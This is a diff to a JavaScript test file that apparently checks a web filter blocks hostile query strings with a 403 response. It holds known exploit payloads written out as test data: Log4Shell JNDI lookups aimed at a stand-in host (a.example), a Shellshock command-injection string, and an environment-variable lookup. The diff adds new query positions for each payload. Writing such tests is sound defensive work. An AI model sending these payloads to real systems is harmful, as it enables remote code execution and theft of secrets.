@@ -39,8 +39,10 @@ describe.each(adapters)('the address of the app itself, on %s', (adapter) => {
       '${jndi:ldap://a.example/x}',
       '() { :;}; id',
       '%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fx%7D',
+      '${env:KEY=1}',
     ])
-      expect((await from(`https://${HOST}/search?q=${lookup}`)).status).toBe(403);
+      for (const query of [`q=${lookup}`, `${lookup}=1`, `a=1&${lookup}`])
+        expect((await from(`https://${HOST}/search?${query}`)).status).toBe(403);
   });
 
   it('may stand in front of the path', async () => {
